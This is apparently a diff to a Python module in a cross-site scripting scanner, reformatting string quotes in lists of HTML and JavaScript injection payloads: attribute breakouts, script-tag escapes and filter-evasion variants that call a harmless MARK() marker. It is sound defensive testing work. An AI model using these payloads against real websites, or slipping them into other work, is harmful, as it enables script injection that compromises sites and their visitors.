@@ -1,8 +1,8 @@
 """Texts that become markup or code in a page, for every place in which a page may hold them.
 
 The word MARK stands for a marker (`html.new_marker()`); `html.injections` tells whether it became code. The first texts
-leave every place at once (text, quotes of both kinds, titles, text areas, scripts); behind them stand those in few kinds
-of signs, for filters. See the HTML standard, section 13.2, "Parsing HTML documents".
+leave every place at once (text, quotes of both kinds, titles, text areas, scripts); behind them stand those in few
+kinds of signs, for filters. See the HTML standard, section 13.2, "Parsing HTML documents".
 """
 
 from __future__ import annotations
@@ -18,7 +18,7 @@ from probes.grammars.ranked import in_turn
 _IMAGE = "<img src=x onerror=MARK()>"
 _ANYWHERE = (
     f"'\"></title></textarea></style></script>{_IMAGE}",
-    '" onfocus=MARK() x="\' onfocus=MARK() x=\'',
+    "\" onfocus=MARK() x=\"' onfocus=MARK() x='",
     "<script>MARK()</script>",
     "x onfocus=MARK() y",
     "<<img src=x onerror=MARK()//",
@@ -41,7 +41,7 @@ _ANYWHERE = (
     "'onfocus=MARK() x='",
     '"onfocus=MARK() x="',
     "x\fonfocus=MARK()\fy",
-    "\\\" onfocus=MARK() x=\\\"",
+    '\\" onfocus=MARK() x=\\"',
     "<scr<script>ipt>MARK()</scr</script>ipt>",
     "<style onload=MARK()></style>",
     "<math><a xlink:href=javascript:MARK()>",
@@ -115,9 +115,9 @@ _SCRIPTS = (
     "\\\";MARK();//\\';MARK();//\\`;MARK();//",
     f"</SCRIPT >{_IMAGE}",
     "\nMARK()\n",
-    "\"+MARK()+\"",
+    '"+MARK()+"',
     "'+MARK()+'",
-    "\\\"+MARK()}//",
+    '\\"+MARK()}//',
     f"</script/x>{_IMAGE}",
     f"</script\n>{_IMAGE}",
     f"</script\t{_IMAGE}</script>",
@@ -126,8 +126,8 @@ _SCRIPTS = (
     "\u0130" * 60 + f"</script>{_IMAGE}",
     "\u00df\ufb03\u0149" * 40 + f"</script>{_IMAGE}",
     f"<!--<script>x</script></script>{_IMAGE}",
-    "\\\\\";MARK();//",
-    "\\\\\\\";MARK();//",
+    '\\\\";MARK();//',
+    '\\\\\\";MARK();//',
     "MARK\\",
     "\u2028MARK()//",
     "\rMARK()//",
@@ -135,12 +135,12 @@ _SCRIPTS = (
     "1;MARK()",
     "&quot;;MARK();//",
     f"&lt;/script&gt;{html.escape(_IMAGE)}",
-    f"\\u003c/script\\u003e\\u003cimg src=x onerror=MARK()\\u003e",
+    "\\u003c/script\\u003e\\u003cimg src=x onerror=MARK()\\u003e",
     f"</scr</script>ipt>{_IMAGE}",
     f"</</script>script>{_IMAGE}",
     f"<<//script>{_IMAGE}",
-    f"\uff1c/script\uff1e\uff1cimg src=x onerror=MARK()\uff1e",
-    f"%3C/script%3E%3Cimg src=x onerror=MARK()%3E",
+    "\uff1c/script\uff1e\uff1cimg src=x onerror=MARK()\uff1e",
+    "%3C/script%3E%3Cimg src=x onerror=MARK()%3E",
     f"</\u017fcript>{_IMAGE}",
     f"-->{_IMAGE}",
     f"]]></script>{_IMAGE}",
@@ -161,16 +161,16 @@ def pairs(names: Sequence[str]) -> Iterator[tuple[str, str]]:
     yield from [
         ("<img src=x title='", "' onerror=MARK()>"),
         ('<img src=x title="', '" onerror=MARK() x="'),
-        ("\\", "+MARK()+\""),
+        ("\\", '+MARK()+"'),
         ("\\", ";MARK();//"),
         ("<!--<script>", f"</script>{_IMAGE}"),
         ("<!--", f"--!>{_IMAGE}"),
         ("<img src=x onerror=`", "`;MARK()>"),
         ("</scr", f"ipt>{_IMAGE}"),
         ("<", "img src=x onerror=MARK()>"),
-        ("x=\"", " onfocus=MARK() \""),
+        ('x="', ' onfocus=MARK() "'),
     ]
-    for payload in ("\" onfocus=MARK() x=\"", f"' onfocus=MARK() x='{_IMAGE}", "+MARK()+"):
+    for payload in ('" onfocus=MARK() x="', f"' onfocus=MARK() x='{_IMAGE}", "+MARK()+"):
         for field in fields(*names):
             yield (field, payload)
             yield (payload, field)
